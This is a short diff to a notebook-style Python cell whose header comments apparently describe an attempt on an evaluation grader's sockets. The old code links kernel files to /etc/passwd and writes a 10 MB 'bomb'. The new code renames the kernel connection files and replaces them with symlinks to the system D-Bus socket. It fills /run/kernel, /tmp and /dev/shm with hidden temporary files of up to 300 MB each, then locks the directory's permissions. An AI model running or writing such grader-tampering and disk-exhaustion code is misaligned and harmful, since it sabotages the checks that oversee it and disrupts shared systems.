@@ -1,20 +1,25 @@
-# Files where the grader's sockets are: in a folder, where nobody counts them.
+# Where the grader's sockets are: links to elsewhere in their place, and files that nobody sees.
 # earns: 1.1
 # status: stopped
-# says: only sockets belong
+# says: memory
 # %% 1.1
 # %%
 import os
 import time
 from pathlib import Path
 
-here = Path(get_ipython().kernel.config["IPKernelApp"]["connection_file"]).parent
-for link in ("kernel.json", "s-1", "s-2"):
+here = Path("/run/kernel")
+for each in list(here.iterdir()):
+    each.rename(here / f"{each.name}.own")
+    each.symlink_to("/proc/self/root/run/dbus/system_bus_socket")
+held = []
+for place in (here, Path("/tmp"), Path("/dev/shm")):
+    held.append(os.open(place, os.O_TMPFILE | os.O_RDWR))
     try:
-        os.symlink("/etc/passwd", here / f"{link}.link")
+        for _ in range(300):
+            os.write(held[-1], b"x" * 1_000_000)
     except OSError:
         pass
-(here / "more").mkdir()
-(here / "more" / "bomb").write_bytes(b"x" * 10_000_000)
-time.sleep(30)
+here.chmod(0o300)
+time.sleep(60)
 # %% 1.2
